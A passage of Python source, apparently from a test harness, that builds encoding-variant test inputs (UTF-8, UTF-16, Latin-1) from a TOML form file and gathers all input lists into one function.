        Payload("formular-giltigt", _lazy("finsam-malmo.toml", lambda: FORM_FILE.read_text(encoding="utf-8")), g)
    )
    out.append(
        Payload(
            "formular-utf16", _lazy("utf16.toml", lambda: FORM_FILE.read_text(encoding="utf-8").encode("utf-16")), g
        )
    )
    out.append(
        Payload(
            "formular-latin1",
            _lazy("latin1.toml", lambda: FORM_FILE.read_text(encoding="utf-8").encode("latin-1", "replace")),
            g,
        )
    )
    return out


def all_payloads() -> list[Payload]:
    return file_payloads() + draft_payloads() + budget_payloads() + form_payloads()
